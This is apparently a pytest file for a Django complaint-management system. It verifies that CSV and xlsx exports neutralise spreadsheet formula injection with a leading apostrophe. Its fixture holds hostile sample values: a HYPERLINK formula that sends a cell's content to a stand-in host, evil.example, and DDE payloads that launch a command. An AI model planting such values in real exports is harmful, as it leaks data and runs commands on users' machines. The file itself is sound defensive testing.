"""Formula injection (OWASP "CSV injection"): a value a spreadsheet would run as a formula, because it
starts with = + - @ or a tab or carriage return, leaves the CSV and xlsx exports and the periodic
report's workbook as text with a leading apostrophe; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/"&A1,"点击")',
    "content": "+cmd|' /C calc'!A0",
    "name": "-2+3+cmd|' /C calc'!A0",
    "respondent": "@SUM(1+1)*cmd|' /C calc'!A0",
    "category": "\t=1+1",
    "department": "\r=1+1",
}


@pytest.fixture
def formulas(generic, staff):
    from tousu.accounts.models import Department
    from tousu.cases.engine import apply_action
    from tousu.cases.services import register_complaint
    from tousu.processes.models import Category

    Category.objects.filter(process_name="generic", code="quality").update(
        label=FORMULAS["category"]
    )
    Department.objects.filter(code="quality_management").update(name=FORMULAS["department"])
    complaint, _ = register_complaint(
        process=generic,
        user=staff["receiver"],
        channel="phone",
        title=FORMULAS["title"],
        content=FORMULAS["content"],
        parties=[
            {"role": "complainant", "name": FORMULAS["name"], "phone": "13812345678"},
            {"role": "respondent", "kind": "organisation", "name": FORMULAS["respondent"]},
        ],
    )
    for name, data in (("judge_valid", {}), ("assign_department", {"category": "quality"})):
        complaint, _ = apply_action(
            complaint, staff["officer"], name, data=data, version=complaint.version
        )
    return complaint


def _officer(staff) -> Client:
    client = Client()
    client.force_login(staff["officer"])  # sees personal data unmasked, so the name is exported
    return client


def _assert_neutralised(values, where: str, *, xml: bool = False) -> None:
    def seen(text: str) -> str:  # an xlsx file is XML, whose readers turn CR into LF
        return text.replace("\r", "\n") if xml else text

    for field, formula in FORMULAS.items():
        assert seen(formula) not in values, f"{where}: {field} exported as a formula: {formula!r}"
        assert seen("'" + formula) in values, f"{where}: {field} not found with its apostrophe"
    dangerous = [
        v for v in values if isinstance(v, str) and v[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")
    ]
    assert not dangerous, f"{where}: {dangerous}"


def test_csv_export_neutralises_formulas(staff, formulas):
    r = _officer(staff).get("/staff/reports/export.csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode("utf-8-sig"))))
    assert len(rows) == 2
    _assert_neutralised(rows[1], "CSV export")


def test_xlsx_export_neutralises_formulas(staff, formulas):
    r = _officer(staff).get("/staff/reports/export.xlsx")
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(r.streaming_content))).active
    cells = list(sheet.iter_rows(min_row=4))[0]  # under the register's title, caption and header
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    _assert_neutralised([c.value for c in cells], "xlsx export", xml=True)


def test_periodic_report_workbook_neutralises_formulas(formulas):
    from tousu.reports import services
    from tousu.reports.periods import month_of

    data = services.report_figures(month_of(timezone.localdate()))
    book = load_workbook(io.BytesIO(services.xlsx_bytes(data)))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                values.append(cell.value)
    for field in ("category", "department", "respondent"):
        assert ("'" + FORMULAS[field]).replace("\r", "\n") in values, field
    starts = ("=", "+", "-", "@", "\t", "\r", "\n")
    assert not [v for v in values if isinstance(v, str) and v[:1] in starts]
